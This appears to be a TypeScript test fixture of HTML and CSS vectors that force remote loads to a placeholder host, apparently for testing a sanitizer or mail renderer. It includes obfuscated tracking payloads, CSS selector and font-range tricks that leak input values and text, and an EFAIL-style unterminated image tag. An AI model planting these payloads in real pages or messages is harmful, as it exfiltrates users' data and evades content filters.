// What would load something from elsewhere (vectors 27 to 36), and text between two parts (49).
import type { Vector } from './cry.ts';

export const remoteVectors: Vector[] = [
  [
    '27 images',
    '<img src="OUT/1" srcset="OUT/2 2x" sizes=1px lowsrc="OUT/3" dynsrc="OUT/4"><img src="\nOUT/5"><img src="//127.0.0.1:PORT/6"><input type=image src="OUT/7">',
  ],
  [
    '28 media',
    '<picture><source srcset="OUT/1"><img></picture><video src="OUT/2" poster="OUT/3" autoplay></video><audio src="OUT/4" autoplay></audio><video><track default src="OUT/5"></video>',
  ],
  [
    '29 backgrounds',
    '<body background="OUT/1"><table background="OUT/2"><tr background="OUT/3"><td background="OUT/4">x</table>',
  ],
  [
    '30 inline css',
    `<p style="background:url(OUT/1)">a<p style="background-image:u\\72l('OUT/2')">a<p style="background:image-set('OUT/3' 1x)">a<p style="--x:url(OUT/4);background:var(--x)">a<p style="background:var(--y,url(OUT/5))">a<p style="list-style-image:url(OUT/6);display:list-item">a<p style="border-image:url(OUT/7) 1;content:url(OUT/8);cursor:url(OUT/9),auto;mask:url(OUT/10);filter:url(OUT/11#a);background:URL(OUT/12">a`,
  ],
  [
    '31 style elements',
    `<style>@import "OUT/1";@import url(OUT/2);@font-face{font-family:x;src:url(OUT/3)}p{font-family:x;background:url(OUT/4)}p::before{content:url(OUT/5)}li{list-style:url(OUT/6)}</style><p>text<li>x`,
  ],
  [
    '32 links',
    '<link rel=stylesheet href="OUT/1"><link rel=icon href="OUT/2"><link rel=preload as=image href="OUT/3"><link rel=prefetch href="OUT/4"><link rel=manifest href="OUT/5"><link rel=modulepreload href="OUT/6">',
  ],
  [
    '36 css probes',
    '<style>a[href*="x"]{background:url(OUT/1)}a:visited{background:url(OUT/2)}:root:has(body){background:url(OUT/3)}</style><a href="http://x">x</a>',
  ],
  [
    '27 images of other make',
    '<img src="ftp://127.0.0.1:PORT/1"><img src="OUT/2" loading=eager fetchpriority=high><img src="http:/127.0.0.1:PORT/3"><img src="http:\\\\127.0.0.1:PORT/4"><img src="\u0001OUT/5"><image src="OUT/6">',
  ],
  [
    '30 inline css of other make',
    `<p style="background:url(&quot;OUT/1&quot;)">a<p style="background:url(/*x*/OUT/2)">a<p style="BACKGROUND:URL(OUT/3)">a<p style="background:cross-fade(url(OUT/4),url(OUT/5))">a<p style="background-image:-webkit-image-set(url(OUT/6) 1x)">a<p style="background:\\75\\72\\6c(OUT/7)">a<p style="background:src('OUT/8')">a<p style="background:url(OUT/9), red">a<p style="offset-path:url(OUT/10#a);shape-outside:url(OUT/11);-webkit-mask-box-image:url(OUT/12)">a`,
  ],
  [
    '31 style elements of other make',
    `<style>@IMPORT 'OUT/1';@\\69mport "OUT/2";@namespace url(OUT/3);@font-face{font-family:y;src:local(x),url(OUT/4)}p{font-family:y;cursor:url(OUT/5),auto}@supports (a:url(OUT/6)){p{background:url(OUT/7)}}@property --z{syntax:'<url>';inherits:true;initial-value:url(OUT/8)}p{background:var(--z)}@layer{p{background:url(OUT/9)}}</style><style media="print,screen">p{background:url(OUT/10)}</style><p>text`,
  ],
  [
    '32 links of other make',
    '<link rel="dns-prefetch" href="OUT/1"><link rel=preconnect href="OUT/2"><link rel=prerender href="OUT/3"><link rel="alternate stylesheet" href="OUT/4" title=x><link rel=stylesheet href="data:text/css,@import \'OUT/5\'"><link rel=search href="OUT/6"><link rel=pingback href="OUT/7">',
  ],
  [
    '33 ping and attribution',
    '<a ping="OUT/ping" href="https://x.example/" attributionsrc="OUT/attr">x</a><img attributionsrc="OUT/a2" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  ],
  [
    '35 base',
    '<base href="OUT/"><img src="rel.png"><link rel=stylesheet href="rel.css"><p style="background:url(rel2.png)">x',
  ],
  [
    '36 letters that load',
    `<style>@font-face{font-family:leak;src:url(OUT/A);unicode-range:U+0041}@font-face{font-family:leak;src:url(OUT/B);unicode-range:U+0042}#s{font-family:leak}input[value^="a"]{background:url(OUT/v)}:has(a[href^="https"]){background:url(OUT/h)}#s::first-line{background:url(OUT/fl)}</style><p id=s>AB secret`,
  ],
  ['49 a text between two others', '<img src="OUT/efail?'],
];
